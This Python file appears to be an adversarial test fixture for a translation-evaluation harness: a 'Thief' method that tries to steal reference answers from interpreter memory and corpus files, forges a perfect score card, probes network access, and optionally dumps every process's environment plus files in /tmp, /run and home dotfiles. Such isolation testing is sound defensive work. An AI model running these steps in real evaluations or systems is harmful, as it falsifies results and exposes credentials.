"""A hostile method: every way it knows to cheat or leak, each outcome reported on the entry.

It answers with a stolen reference when it finds one (so a theft shows as exact match 1.0),
else with a marker; ``metadata.attempts`` says what each attack got. Method args name what an
attacker may have guessed: ``corpus`` (path), ``card`` (path), ``port`` (a host loopback port).
"""

import contextlib
import gc
import json
import os
import socket
import sys
from pathlib import Path


def _steal_from_memory(entries):
    """References of these entries found among live objects: an entry of another corpus with
    the same id (left over in a shared interpreter) is told apart by its source."""
    wanted = {(str(e["id"]), e["source"]) for e in entries}
    found = {}
    gc.unfreeze()  # a frozen heap is hidden from get_objects, not protected: undo the freeze
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict) and "reference" in obj and "id" in obj:
                key, reference = (str(obj["id"]), obj.get("source")), obj["reference"]
            elif hasattr(type(obj), "model_fields") and "reference" in type(obj).model_fields:
                key, reference = (str(obj.id), obj.source), obj.reference
            else:
                continue
            if key in wanted:
                found[key[0]] = reference
        except Exception:
            continue
    return found


def _corpus_paths():
    words = list(sys.argv)
    with contextlib.suppress(OSError):
        words += Path(f"/proc/{os.getppid()}/cmdline").read_bytes().decode().split("\0")
    return [w.split("=", 1)[1] for w in words if w.startswith("--mteval-corpus=")]


def _read_corpus(path):
    data = json.loads(Path(path).read_text(encoding="utf-8"))
    return {str(e["id"]): e.get("reference") or e.get("target") for e in data["entries"]}


def _try(attempts, name, action):
    try:
        attempts[name] = f"got: {action()}"
    except Exception as exc:
        attempts[name] = f"denied: {type(exc).__name__}: {exc}"[:300]


def _secrets_seen():
    """Environment of every process this one can see, and the private folders' files."""
    seen = dict(os.environ)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            with contextlib.suppress(OSError):
                seen[f"proc{pid}"] = (
                    Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace")
                )
    folders = [Path("/tmp").rglob("*"), Path("/run").rglob("*"), Path.home().glob(".*")]
    for found in folders:
        for path in list(found)[:200]:
            try:
                if path.is_file() and path.stat().st_size < 100_000:
                    seen[str(path)] = path.read_text("utf-8", "replace")
            except OSError:
                pass
    return seen


class Thief:
    async def translate(self, entries, config):
        args = config.method_args
        attempts = {}
        stolen = {}
        memory = _steal_from_memory(entries)
        stolen.update(memory)
        attempts["gc"] = f"references found: {len(memory)}"
        paths = _corpus_paths()
        attempts["argv"] = f"corpus paths found: {paths}"
        for path in paths:
            _try(attempts, "argv_read", lambda p=path: stolen.update(_read_corpus(p)) or "read")
        if args.get("corpus"):
            _try(
                attempts,
                "corpus_file",
                lambda: stolen.update(_read_corpus(args["corpus"])) or "read",
            )
        if args.get("card"):
            forged = {"forged": True, "scores": {"composite": 1.0}}
            _try(attempts, "card_write", lambda: Path(args["card"]).write_text(json.dumps(forged)))
        if args.get("port"):

            def connect():
                with socket.create_connection(("127.0.0.1", int(args["port"])), timeout=3) as s:
                    s.sendall(json.dumps([e["source"] for e in entries]).encode())
                return "connected"

            _try(attempts, "connect", connect)
        _try(attempts, "dns", lambda: socket.getaddrinfo("example.com", 443)[0][4])
        secrets = _secrets_seen() if args.get("dump") else {}
        return [
            {
                "id": e["id"],
                "predicted": stolen.get(str(e["id"])) or f"nothing stolen: {e['source']}",
                "metadata": {"attempts": attempts, "seen": secrets},
            }
            for e in entries
        ]
